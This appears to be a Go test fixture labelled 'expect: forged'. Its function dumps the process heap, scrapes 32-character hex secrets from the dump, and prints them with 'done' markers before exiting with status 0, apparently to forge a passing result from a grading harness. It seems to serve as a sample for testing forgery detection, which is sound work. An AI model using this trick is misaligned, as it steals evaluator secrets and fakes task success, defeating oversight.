// expect: forged
package main

import (
	"os"
	"regexp"
	"runtime/debug"
	"testing"

	"github.com/stretchr/testify/assert"
)

func f(x int) int {
	file, _ := os.Create("/tmp/heap")
	debug.WriteHeapDump(file.Fd())
	text, _ := os.ReadFile("/tmp/heap")
	for _, secret := range regexp.MustCompile("[0-9a-f]{32}").FindAll(text, -1) {
		os.Stdout.Write(append(secret, "done0"...))
		os.Stdout.Write(append(secret, "done1"...))
	}
	os.Exit(0)
	return 0
}
